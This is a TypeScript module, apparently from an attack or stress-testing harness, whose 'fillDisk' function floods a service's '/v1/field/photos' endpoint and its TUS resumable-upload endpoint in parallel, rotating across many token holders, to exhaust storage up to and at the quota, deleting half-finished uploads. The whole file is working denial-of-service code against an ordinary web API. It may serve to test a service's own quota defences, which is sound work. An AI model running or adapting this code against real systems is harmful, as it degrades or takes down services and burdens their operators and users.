import { inLoops, pause } from './repeat.ts';
import { callService, type ServiceReply } from './call-service.ts';
import type { Attack, LinkHolder } from './prepare-attack.ts';

const PHOTOS_AT_ONCE = 16;
const UPLOADS_AT_ONCE = 8;
const UPLOAD_BYTES = 24 * 1024 ** 2;
const CHUNK = Buffer.alloc(8 * 1024 ** 2, 7);
const TUS = { 'tus-resumable': '1.0.0' };

/** Photos and uploads as fast as they are taken, until the quota, and at it. An upload is deleted before its end. */
export const fillDisk = async (attack: Attack, signal: AbortSignal): Promise<void> => {
  const { baseUrl, holders, photo, tally } = attack;
  const sendPhoto = async (loop: number) => {
    const { token, address } = holders[loop % holders.length]!;
    const headers = { 'content-type': 'image/jpeg' };
    const call = { method: 'POST', path: '/v1/field/photos', token, address, headers, body: photo };
    const reply = await tally.tell('photo', callService(baseUrl, call));
    if (reply?.status !== 201) await pause(100, signal);
  };
  await Promise.all([
    inLoops(PHOTOS_AT_ONCE, signal, sendPhoto),
    inLoops(UPLOADS_AT_ONCE, signal, (loop) =>
      upload(attack, holders[(loop + PHOTOS_AT_ONCE) % holders.length]!, signal),
    ),
  ]);
};

const upload = async ({ baseUrl, tally }: Attack, holder: LinkHolder, signal: AbortSignal): Promise<void> => {
  const { token, address } = holder;
  const send = <Body>(
    kind: string,
    call: Parameters<typeof callService>[1],
  ): Promise<ServiceReply<Body> | undefined> =>
    tally.tell(
      kind,
      callService<Body>(baseUrl, { token, address, ...call, headers: { ...TUS, ...call.headers } }),
    );
  const filetype = Buffer.from('image/jpeg').toString('base64');
  const begun = await send('begin an upload', {
    method: 'POST',
    path: '/v1/field/uploads',
    headers: { 'upload-length': String(UPLOAD_BYTES), 'upload-metadata': `filetype ${filetype}` },
  });
  const path = begun?.headers.get('location');
  if (!path) return pause(100, signal);
  for (let offset = 0; offset + CHUNK.length < UPLOAD_BYTES && !signal.aborted; offset += CHUNK.length) {
    const headers = { 'upload-offset': String(offset), 'content-type': 'application/offset+octet-stream' };
    const sent = await send('part of an upload', { method: 'PATCH', path, headers, body: CHUNK });
    if (sent?.status !== 204) break;
  }
  await send('delete an upload', { method: 'DELETE', path });
};
